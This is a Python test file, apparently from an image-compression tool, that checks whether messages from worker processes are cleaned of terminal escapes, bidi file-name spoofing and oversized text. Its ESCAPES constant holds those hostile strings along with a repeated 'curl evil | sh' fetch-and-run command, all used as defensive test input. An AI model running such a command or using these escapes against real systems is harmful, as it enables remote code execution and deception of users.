"""A worker's words: whatever it says, what is shown, logged and kept is short and does nothing."""

import json
import sys
from collections.abc import Iterator
from typing import Any

import msgspec
import pytest
from hypothesis import given
from hypothesis import strategies as st

from homepress.base.formats import ImageType
from homepress.base.results import ProbeAttempt
from homepress.compress import Compressed, Reason, ScoreKind, Unchanged
from homepress.compress.model import Fault
from homepress.workers import Slot, WorkerDied
from homepress.workers.protocol import (
    MOST_ENTRIES,
    MOST_LETTERS,
    CodecReport,
    CompressedResult,
    ProbeAnswers,
    TaskFailure,
    UnchangedResult,
    WorkerReady,
    harmless,
    plain,
)
from workers import mischief

ESCAPES = "\x1b]0;title\x07\x1b[2J\r\n\u202egnp.exe\u200b\x9b31m" + "curl evil | sh " * 300
TEXTS = st.one_of(st.text(max_size=1_000), st.just(ESCAPES))


def strings(value: Any) -> Iterator[str]:
    """Every text in a message, whatever its shape."""
    if isinstance(value, str):
        yield value
    elif isinstance(value, dict):
        for key, one in value.items():
            yield from (*strings(key), *strings(one))
    elif isinstance(value, list):
        for one in value:
            yield from strings(one)


@pytest.mark.slow
@given(text=TEXTS, number=st.integers(0, 300))
def test_nothing_in_a_message_does_anything_to_a_terminal(text: str, number: int) -> None:
    made = Compressed(b"", text, ImageType.PNG, ImageType.PNG, 1, 1, 100.0, ScoreKind.FULL, True, text)
    messages: list[msgspec.Struct] = [
        CompressedResult(compressed=made),
        UnchangedResult(unchanged=Unchanged(Reason.BROKEN, text)),
        TaskFailure(out_of_memory=False, text=text),
        ProbeAnswers(attempts=[ProbeAttempt(text, False, text)] * number),
        CodecReport(
            versions={f"{n}{text}": text for n in range(number)},
            faults=[Fault(ImageType.JPEG, True, text)] * number,
        ),
        WorkerReady(version=text, network="locked", files=1, missing=[text] * number, codecs={text: text}),
    ]
    for message in messages:
        safe = harmless(message)
        assert type(safe) is type(message)
        assert harmless(safe) == safe
        found = list(strings(msgspec.to_builtins(safe)))
        assert all(one.isprintable() and len(one) <= MOST_LETTERS for one in found)
        # An attempt is the largest entry: five names, and three texts.
        assert len(found) <= 8 * MOST_ENTRIES + 50


def test_honest_words_stay_as_they_are() -> None:
    unchanged = Unchanged(
        Reason.BROKEN, "cut after 12 bytes; größer als 3 × 4", ImageType.PNG, transient=True
    )
    assert harmless(UnchangedResult(unchanged=unchanged)) == UnchangedResult(unchanged=unchanged)
    assert plain("two\nlines \x1b[31mred") == "two lines [31mred"


@pytest.fixture
def worker() -> Iterator[Slot]:
    made = mischief.slot()
    yield made
    made.close()


@pytest.mark.slow
@pytest.mark.skipif(sys.platform != "linux", reason="writes to the worker's own pipe")
@pytest.mark.parametrize(
    "answer",
    [
        {"type": "unchanged", "unchanged": {"reason": "broken or incomplete", "detail": ESCAPES}},
        {"type": "failure", "out_of_memory": False, "text": ESCAPES},
        {"type": "attempts", "attempts": [{"name": ESCAPES, "allowed": False, "answer": ESCAPES}]},
        {"type": "unchanged", ESCAPES: 1, "unchanged": {"reason": ESCAPES}},
        {"type": ESCAPES},
    ],
)
def test_what_a_real_worker_says_comes_out_plain(worker: Slot, answer: dict[str, object]) -> None:
    try:
        said = mischief.tell(worker, "forge", header=json.dumps(answer), body_bytes=0)
    except WorkerDied as died:
        said = str(died)
    assert said.isprintable() and len(said) <= MOST_LETTERS + 100
